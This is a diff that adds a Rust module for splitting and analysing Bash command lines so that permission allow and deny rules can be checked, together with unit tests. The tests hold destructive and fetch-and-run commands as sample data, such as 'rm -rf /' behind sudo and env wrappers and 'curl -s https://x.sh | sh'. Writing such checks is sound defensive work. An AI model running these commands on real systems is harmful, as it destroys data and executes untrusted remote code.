@@ -0,0 +1,633 @@
+//! Shell-aware analysis of Bash commands for permission checks
+//!
+//! A command line like `cd /tmp && rm -rf build` is really two commands.
+//! `analyze_bash` splits it on `&&`, `||`, `;`, `|`, `&` and newlines,
+//! tokenizes each part the way a shell would (quotes, escapes, comments) and
+//! separates redirections from the command's words, so prefix rules can be
+//! checked against every command rather than the start of the line.
+//!
+//! Each command keeps its byte range in the line (`span`) and whether a pipe
+//! feeds it (`piped`), for checks that look at pipelines like `curl | sh`
+//! (see `bash_safety`).
+//!
+//! Anything that can't be checked statically - command or process
+//! substitution, subshells, heredocs, unbalanced quotes - is flagged with
+//! `has_substitution`, and prefix rules never allow such a command.
+
+use std::ops::Range;
+
+/// One simple command in a Bash command line
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct CommandSpec {
+    /// Words after quote removal, program first (e.g. `["git", "commit", "-m", "fix it"]`)
+    pub words: Vec<String>,
+    /// Redirections, operator and target together (e.g. `>out.txt`, `2>&1`)
+    pub redirects: Vec<String>,
+    /// Contains command or process substitution, a subshell, a heredoc or
+    /// unbalanced quoting, so what it runs can't be known without running it
+    pub has_substitution: bool,
+    /// Byte range of the command in the line, separators and comments excluded
+    pub span: Range<usize>,
+    /// Reads the previous command's output through a pipe (`a | b`, `a |& b`)
+    pub piped: bool,
+}
+
+impl CommandSpec {
+    /// The program being run, if any
+    pub fn program(&self) -> Option<&str> {
+        self.words.first().map(String::as_str)
+    }
+
+    /// Whether a redirection writes to a file (`/dev/null` and fd copies don't count)
+    pub fn writes_file(&self) -> bool {
+        self.redirects.iter().any(|redirect| {
+            let Some(pos) = redirect.find('>') else {
+                return false;
+            };
+            let target = redirect[pos..].trim_start_matches(['>', '|']);
+            if let Some(fd) = target.strip_prefix('&') {
+                // `>&2` and `>&-` copy or close a descriptor; `>&file` writes
+                if fd == "-" || (!fd.is_empty() && fd.chars().all(|c| c.is_ascii_digit())) {
+                    return false;
+                }
+                return fd != "/dev/null";
+            }
+            target != "/dev/null"
+        })
+    }
+
+    /// Whether the command's words start with the words of `prefix`
+    ///
+    /// Matching is by whole words, so `git` matches `git status` but not
+    /// `gitk`. Redirections are ignored.
+    pub fn starts_with(&self, prefix: &str) -> bool {
+        words_start_with(&self.words, prefix)
+    }
+
+    /// Whether an allow rule for `prefix` covers this command
+    ///
+    /// Stricter than `starts_with`: commands with substitution or that write
+    /// files through a redirection are never allowed by prefix.
+    pub fn allowed_by_prefix(&self, prefix: &str) -> bool {
+        !self.has_substitution && !self.writes_file() && self.starts_with(prefix)
+    }
+
+    /// Whether a deny rule for `prefix` covers this command
+    ///
+    /// Looser than `starts_with`: the words as written or the command that
+    /// really runs (see `effective_words`) may match, so a rule for `rm`
+    /// also denies `X=1 rm`, `sudo rm` and `/bin/rm`.
+    pub fn denied_by_prefix(&self, prefix: &str) -> bool {
+        self.starts_with(prefix) || words_start_with(&self.effective_words(), prefix)
+    }
+
+    /// The words of the command that really runs: past `VAR=value`
+    /// assignments and wrappers (`sudo`, `env`, `nohup`, `xargs`, ...), with
+    /// the program's directory dropped (`sudo /bin/rm -rf x` is `rm -rf x`)
+    pub fn effective_words(&self) -> Vec<&str> {
+        unwrap_words(&self.words).map(|unwrapped| unwrapped.words).unwrap_or_default()
+    }
+}
+
+/// Whether `words` start with the whitespace-separated words of `prefix`
+fn words_start_with(words: &[impl AsRef<str>], prefix: &str) -> bool {
+    let prefix: Vec<&str> = prefix.split_whitespace().collect();
+    !prefix.is_empty() && words.len() >= prefix.len() && words.iter().zip(&prefix).all(|(word, p)| word.as_ref() == *p)
+}
+
+/// Programs that run another command as a different user
+pub(crate) const ESCALATORS: &[&str] = &["sudo", "doas", "su", "pkexec", "run0"];
+
+/// A command's words past assignments and wrappers
+pub(crate) struct Unwrapped<'a> {
+    /// Program name without its directory, then its arguments
+    pub words: Vec<&'a str>,
+    /// `sudo` or the like, if the command runs through one
+    pub escalator: Option<&'a str>,
+}
+
+/// Strip `VAR=value` assignments and wrappers (`sudo`, `env`, `nohup`,
+/// `xargs`, ...) from a command's words
+///
+/// `su` isn't unwrapped: what it runs is a `-c` script, not its arguments.
+pub(crate) fn unwrap_words(words: &[String]) -> Option<Unwrapped<'_>> {
+    let mut words: Vec<&str> = words.iter().map(String::as_str).collect();
+    let mut escalator = None;
+    loop {
+        let assignments = words.iter().take_while(|word| is_assignment(word)).count();
+        words.drain(..assignments);
+        let program = basename(words.first()?);
+        // Options of the wrapper that take a value
+        let valued: &[&str] = match program {
+            "sudo" => &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "--user", "--group"],
+            "doas" => &["-u", "-C"],
+            "pkexec" | "run0" => &["--user", "-u"],
+            "env" => &["-u", "-C", "-S", "--unset", "--chdir"],
+            "nice" => &["-n", "--adjustment"],
+            "ionice" => &["-c", "-n", "-p"],
+            "xargs" => &["-I", "-L", "-n", "-P", "-d", "-a", "-s", "-E", "--max-args", "--max-procs"],
+            "timeout" => &["-s", "-k", "--signal", "--kill-after"],
+            "watch" => &["-n", "-d", "--interval"],
+            "stdbuf" | "nohup" | "time" | "command" | "exec" => &[],
+            _ => break,
+        };
+        if ESCALATORS.contains(&program) {
+            escalator = Some(program);
+        }
+        let mut i = 1;
+        while i < words.len() && words[i].starts_with('-') {
+            i += if valued.contains(&words[i]) { 2 } else { 1 };
+        }
+        if program == "timeout" && i < words.len() {
+            // The duration
+            i += 1;
+        }
+        if program == "env" {
+            while i < words.len() && is_assignment(words[i]) {
+                i += 1;
+            }
+        }
+        if i >= words.len() {
+            // A bare `sudo -v` or `env` still counts as itself
+            return Some(Unwrapped { words: vec![program], escalator });
+        }
+        words.drain(..i);
+    }
+
+    words[0] = basename(words[0]);
+    Some(Unwrapped { words, escalator })
+}
+
+/// Whether a word is a `NAME=value` assignment
+fn is_assignment(word: &str) -> bool {
+    word.split_once('=').is_some_and(|(name, _)| {
+        !name.is_empty()
+            && !name.starts_with(|c: char| c.is_ascii_digit())
+            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+    })
+}
+
+/// A program name without its directory
+pub(crate) fn basename(program: &str) -> &str {
+    program.rsplit('/').next().unwrap_or(program)
+}
+
+/// Split a Bash command line into its simple commands
+///
+/// Empty commands (e.g. from a trailing `;`) are dropped, so an empty or
+/// comment-only line gives an empty list.
+pub fn analyze_bash(command: &str) -> Vec<CommandSpec> {
+    let mut parser = Parser::default();
+    let chars: Vec<char> = command.chars().collect();
+    // Byte offset of each char, and of the end of the line
+    let offsets: Vec<usize> = command.char_indices().map(|(pos, _)| pos).chain([command.len()]).collect();
+    let mut i = 0;
+
+    while i < chars.len() {
+        let c = chars[i];
+        let next = chars.get(i + 1).copied();
+        // Part of a command rather than a separator, blank or comment
+        let content = match c {
+            ' ' | '\t' | '\n' | ';' | '|' => false,
+            '&' => next == Some('>'),
+            '#' => parser.in_word,
+            _ => true,
+        };
+        if content && parser.start.is_none() {
+            parser.start = Some(offsets[i]);
+        }
+        match c {
+            ' ' | '\t' => parser.end_word(),
+            '\n' | ';' => parser.end_command(),
+            '&' if next == Some('>') => {
+                // `&>file` and `&>>file` redirect both streams
+                parser.end_word();
+                let mut op = String::from("&>");
+                i += 1;
+                if chars.get(i + 1) == Some(&'>') {
+                    op.push('>');
+                    i += 1;
+                }
+                parser.redirect = Some(op);
+            }
+            '&' => {
+                // `&&`, or `&` running the previous command in the background
+                if next == Some('&') {
+                    i += 1;
+                }
+                parser.end_command();
+            }
+            '|' => {
+                // `||`, `|&` or a plain pipe
+                if matches!(next, Some('|') | Some('&')) {
+                    i += 1;
+                }
+                parser.end_command();
+                parser.current.piped = next != Some('|');
+            }
+            '>' | '<' => {
+                // A word of digits right before the operator is its fd (`2>`)
+                let mut op = String::new();
+                if parser.in_word
+                    && parser.redirect.is_none()
+                    && !parser.word.is_empty()
+                    && parser.word.chars().all(|d| d.is_ascii_digit())
+                {
+                    op = std::mem::take(&mut parser.word);
+                    parser.in_word = false;
+                } else {
+                    parser.end_word();
+                }
+                if next == Some('(') {
+                    // Process substitution, `<(cmd)` or `>(cmd)`
+                    parser.current.has_substitution = true;
+                    parser.word.push_str(&op);
+                    parser.word.push(c);
+                    i = parser.take_parens(&chars, i + 1);
+                    i += 1;
+                    parser.end = offsets[i.min(chars.len())];
+                    continue;
+                }
+                op.push(c);
+                if next == Some(c) {
+                    op.push(c);
+                    i += 1;
+                    if c == '<' {
+                        // The body of a heredoc isn't on this line
+                        parser.current.has_substitution = true;
+                    }
+                }
+                if matches!(chars.get(i + 1), Some('&') | Some('|')) {
+                    op.push(chars[i + 1]);
+                    i += 1;
+                }
+                parser.redirect = Some(op);
+            }
+            '(' => {
+                parser.current.has_substitution = true;
+                i = parser.take_parens(&chars, i);
+            }
+            ')' => {
+                // Unbalanced: the command line doesn't parse
+                parser.current.has_substitution = true;
+            }
+            '\'' => {
+                parser.in_word = true;
+                match chars[i + 1..].iter().position(|&q| q == '\'') {
+                    Some(len) => {
+                        parser.word.extend(&chars[i + 1..i + 1 + len]);
+                        i += len + 1;
+                    }
+                    None => {
+                        parser.word.extend(&chars[i + 1..]);
+                        parser.current.has_substitution = true;
+                        i = chars.len();
+                    }
+                }
+            }
+            '"' => {
+                parser.in_word = true;
+                i = parser.take_double_quoted(&chars, i + 1);
+            }
+            '\\' => {
+                match next {
+                    // Line continuation
+                    Some('\n') => {}
+                    Some(escaped) => {
+                        parser.word.push(escaped);
+                        parser.in_word = true;
+                    }
+                    None => {}
+                }
+                i += 1;
+            }
+            '$' if next == Some('(') => {
+                parser.current.has_substitution = true;
+                parser.word.push('$');
+                i = parser.take_parens(&chars, i + 1);
+            }
+            '`' => {
+                parser.current.has_substitution = true;
+                i = parser.take_backticks(&chars, i);
+            }
+            '#' if !parser.in_word => {
+                // Comment to the end of the line
+                while i + 1 < chars.len() && chars[i + 1] != '\n' {
+                    i += 1;
+                }
+            }
+            _ => {
+                parser.word.push(c);
+                parser.in_word = true;
+            }
+        }
+        if content {
+            parser.end = offsets[(i + 1).min(chars.len())];
+        }
+        i += 1;
+    }
+
+    parser.end_command();
+    parser.commands
+}
+
+#[derive(Default)]
+struct Parser {
+    commands: Vec<CommandSpec>,
+    current: CommandSpec,
+    word: String,
+    /// A word has started, possibly empty (`""`)
+    in_word: bool,
+    /// Operator waiting for its target word
+    redirect: Option<String>,
+    /// Byte offset where the current command starts, once it has
+    start: Option<usize>,
+    /// Byte offset just past the current command's last char
+    end: usize,
+}
+
+impl Parser {
+    fn end_word(&mut self) {
+        if !self.in_word {
+            return;
+        }
+        let word = std::mem::take(&mut self.word);
+        self.in_word = false;
+        match self.redirect.take() {
+            Some(op) => self.current.redirects.push(op + &word),
+            None => self.current.words.push(word),
+        }
+    }
+
+    fn end_command(&mut self) {
+        self.end_word();
+        if let Some(op) = self.redirect.take() {
+            // `ls >` with no target doesn't parse
+            self.current.redirects.push(op);
+            self.current.has_substitution = true;
+        }
+        let mut command = std::mem::take(&mut self.current);
+        if let Some(start) = self.start.take() {
+            command.span = start..self.end;
+        }
+        if !command.words.is_empty() || !command.redirects.is_empty() || command.has_substitution {
+            self.commands.push(command);
+        }
+    }
+
+    /// Append everything from the `(` at `open` to its matching `)` to the
+    /// current word, returning the index of the `)`
+    fn take_parens(&mut self, chars: &[char], open: usize) -> usize {
+        self.in_word = true;
+        let mut depth = 0;
+        for (i, &c) in chars.iter().enumerate().skip(open) {
+            self.word.push(c);
+            match c {
+                '(' => depth += 1,
+                ')' => {
+                    depth -= 1;
+                    if depth == 0 {
+                        return i;
+                    }
+                }
+                _ => {}
+            }
+        }
+        chars.len()
+    }
+
+    /// Append a backquoted command starting at `open` to the current word,
+    /// returning the index of the closing backquote
+    fn take_backticks(&mut self, chars: &[char], open: usize) -> usize {
+        self.in_word = true;
+        self.word.push('`');
+        let mut i = open + 1;
+        while i < chars.len() {
+            self.word.push(chars[i]);
+            match chars[i] {
+                '\\' if i + 1 < chars.len() => {
+                    i += 1;
+                    self.word.push(chars[i]);
+                }
+                '`' => return i,
+                _ => {}
+            }
+            i += 1;
+        }
+        chars.len()
+    }
+
+    /// Read a double-quoted string starting after the opening quote,
+    /// returning the index of the closing quote
+    fn take_double_quoted(&mut self, chars: &[char], start: usize) -> usize {
+        let mut i = start;
+        while i < chars.len() {
+            match chars[i] {
+                '"' => return i,
+                '\\' => match chars.get(i + 1) {
+                    Some(&escaped @ ('"' | '\\' | '$' | '`')) => {
+                        self.word.push(escaped);
+                        i += 1;
+                    }
+                    Some('\n') => i += 1,
+                    _ => self.word.push('\\'),
+                },
+                '$' if chars.get(i + 1) == Some(&'(') => {
+                    self.current.has_substitution = true;
+                    self.word.push('$');
+                    i = self.take_parens(chars, i + 1);
+                }
+                '`' => {
+                    self.current.has_substitution = true;
+                    i = self.take_backticks(chars, i);
+                }
+                c => self.word.push(c),
+            }
+            i += 1;
+        }
+        // Unterminated quote
+        self.current.has_substitution = true;
+        chars.len()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn words(command: &str) -> Vec<Vec<String>> {
+        analyze_bash(command).into_iter().map(|c| c.words).collect()
+    }
+
+    fn w(words: &[&str]) -> Vec<String> {
+        words.iter().map(|s| s.to_string()).collect()
+    }
+
+    #[test]
+    fn test_simple_command() {
+        assert_eq!(words("git status --short"), vec![w(&["git", "status", "--short"])]);
+        assert_eq!(words("  ls   -la  "), vec![w(&["ls", "-la"])]);
+        assert!(analyze_bash("").is_empty());
+        assert!(analyze_bash("   ").is_empty());
+    }
+
+    #[test]
+    fn test_chained_commands() {
+        assert_eq!(
+            words("cd /tmp && rm -rf /"),
+            vec![w(&["cd", "/tmp"]), w(&["rm", "-rf", "/"])]
+        );
+        assert_eq!(
+            words("make || echo failed; ls | wc -l"),
+            vec![w(&["make"]), w(&["echo", "failed"]), w(&["ls"]), w(&["wc", "-l"])]
+        );
+        assert_eq!(words("sleep 1 & ls"), vec![w(&["sleep", "1"]), w(&["ls"])]);
+        assert_eq!(words("a |& b"), vec![w(&["a"]), w(&["b"])]);
+        assert_eq!(words("a;b"), vec![w(&["a"]), w(&["b"])]);
+        assert_eq!(words("a\nb"), vec![w(&["a"]), w(&["b"])]);
+        assert_eq!(words("a;; ;b;"), vec![w(&["a"]), w(&["b"])]);
+    }
+
+    #[test]
+    fn test_quotes() {
+        assert_eq!(
+            words("git commit -m 'fix && rm -rf /'"),
+            vec![w(&["git", "commit", "-m", "fix && rm -rf /"])]
+        );
+        assert_eq!(
+            words(r#"echo "a; b" 'c'"d"e"#),
+            vec![w(&["echo", "a; b", "cde"])]
+        );
+        assert_eq!(words(r#"echo "say \"hi\"" \$HOME"#), vec![w(&["echo", "say \"hi\"", "$HOME"])]);
+        assert_eq!(words(r#"echo "" x"#), vec![w(&["echo", "", "x"])]);
+        assert_eq!(words(r"echo a\ b"), vec![w(&["echo", "a b"])]);
+        assert_eq!(words("echo a \\\n b"), vec![w(&["echo", "a", "b"])]);
+        // Single quotes keep `$(...)` literal
+        let spec = &analyze_bash("echo '$(rm -rf /)'")[0];
+        assert_eq!(spec.words, w(&["echo", "$(rm -rf /)"]));
+        assert!(!spec.has_substitution);
+    }
+
+    #[test]
+    fn test_unbalanced_quotes_are_flagged() {
+        assert!(analyze_bash("echo 'oops")[0].has_substitution);
+        assert!(analyze_bash("echo \"oops")[0].has_substitution);
+        assert!(analyze_bash("echo oops)")[0].has_substitution);
+    }
+
+    #[test]
+    fn test_comments() {
+        assert_eq!(words("ls # && rm -rf /"), vec![w(&["ls"])]);
+        assert_eq!(words("echo a#b"), vec![w(&["echo", "a#b"])]);
+        assert_eq!(words("# just a comment\nls"), vec![w(&["ls"])]);
+    }
+
+    #[test]
+    fn test_redirections() {
+        let spec = &analyze_bash("cargo build 2>&1 > build.log")[0];
+        assert_eq!(spec.words, w(&["cargo", "build"]));
+        assert_eq!(spec.redirects, w(&["2>&1", ">build.log"]));
+        assert!(spec.writes_file());
+
+        let spec = &analyze_bash("ls >/dev/null 2>&1")[0];
+        assert_eq!(spec.redirects, w(&[">/dev/null", "2>&1"]));
+        assert!(!spec.writes_file());
+
+        let spec = &analyze_bash("sort < in.txt")[0];
+        assert_eq!(spec.words, w(&["sort"]));
+        assert!(!spec.writes_file());
+
+        assert!(analyze_bash("echo x >> ~/.bashrc")[0].writes_file());
+        assert!(analyze_bash("echo x &> out")[0].writes_file());
+        assert!(analyze_bash("echo x >| out")[0].writes_file());
+        assert!(analyze_bash("echo x >&out")[0].writes_file());
+        assert!(!analyze_bash("echo x >&2")[0].writes_file());
+        // Quoted operators are just text
+        assert!(analyze_bash("echo '>' out")[0].redirects.is_empty());
+        // No target
+        assert!(analyze_bash("ls >")[0].has_substitution);
+    }
+
+    #[test]
+    fn test_substitution_is_flagged() {
+        for command in [
+            "echo $(rm -rf /)",
+            "echo \"$(whoami)\"",
+            "echo `whoami`",
+            "echo \"`whoami`\"",
+            "diff <(ls a) <(ls b)",
+            "(cd /tmp && rm -rf x)",
+            "cat <<EOF",
+        ] {
+            let specs = analyze_bash(command);
+            assert!(specs.iter().any(|s| s.has_substitution), "{}", command);
+        }
+
+        // The substituted command doesn't split the line
+        let specs = analyze_bash("echo $(a && b) && ls");
+        assert_eq!(specs.len(), 2);
+        assert_eq!(specs[0].words, w(&["echo", "$(a && b)"]));
+        assert!(specs[0].has_substitution);
+        assert!(!specs[1].has_substitution);
+
+        assert!(!analyze_bash("echo $HOME ${PATH}")[0].has_substitution);
+    }
+
+    #[test]
+    fn test_spans_and_pipes() {
+        let line = "cd /tmp && curl -s https://x.sh | sh ; ls 'a b' # done";
+        let specs = analyze_bash(line);
+        let spans: Vec<&str> = specs.iter().map(|s| &line[s.span.clone()]).collect();
+        assert_eq!(spans, vec!["cd /tmp", "curl -s https://x.sh", "sh", "ls 'a b'"]);
+        let piped: Vec<bool> = specs.iter().map(|s| s.piped).collect();
+        assert_eq!(piped, vec![false, false, true, false]);
+
+        assert!(!analyze_bash("a || b")[1].piped);
+        assert!(analyze_bash("a |& b")[1].piped);
+        let line = "é > out; diff <(ls a) x";
+        let spans: Vec<&str> = analyze_bash(line).iter().map(|s| &line[s.span.clone()]).collect();
+        assert_eq!(spans, vec!["é > out", "diff <(ls a) x"]);
+    }
+
+    #[test]
+    fn test_prefix_matching() {
+        let spec = &analyze_bash("git status --short")[0];
+        assert_eq!(spec.program(), Some("git"));
+        assert!(spec.starts_with("git"));
+        assert!(spec.starts_with("git "));
+        assert!(spec.starts_with("git status"));
+        assert!(!spec.starts_with("git commit"));
+        assert!(!spec.starts_with(""));
+        assert!(!analyze_bash("gitk")[0].starts_with("git"));
+
+        assert!(spec.allowed_by_prefix("git"));
+        assert!(!analyze_bash("git log > out")[0].allowed_by_prefix("git"));
+        assert!(!analyze_bash("git log $(x)")[0].allowed_by_prefix("git"));
+        assert!(analyze_bash("git log 2>/dev/null")[0].allowed_by_prefix("git"));
+    }
+
+    #[test]
+    fn test_deny_prefix_sees_through_wrappers() {
+        for command in [
+            "rm -rf /",
+            "X=1 rm -rf /",
+            "env rm -rf /",
+            "env -i PATH=/bin rm -rf /",
+            "sudo rm -rf /",
+            "sudo -u root /usr/bin/rm -rf /",
+            "command rm -rf /",
+            "/bin/rm -rf /",
+            "nohup timeout 10 rm -rf /",
+        ] {
+            let spec = &analyze_bash(command)[0];
+            assert_eq!(spec.effective_words(), ["rm", "-rf", "/"], "{}", command);
+            assert!(spec.denied_by_prefix("rm"), "{}", command);
+            assert!(spec.denied_by_prefix("rm -rf"), "{}", command);
+        }
+        // The wrapper itself can still be denied
+        assert!(analyze_bash("sudo rm x")[0].denied_by_prefix("sudo"));
+        assert_eq!(analyze_bash("sudo -v")[0].effective_words(), ["sudo"]);
+        assert!(!analyze_bash("echo rm")[0].denied_by_prefix("rm"));
+        assert!(!analyze_bash("rmdir x")[0].denied_by_prefix("rm"));
+    }
+}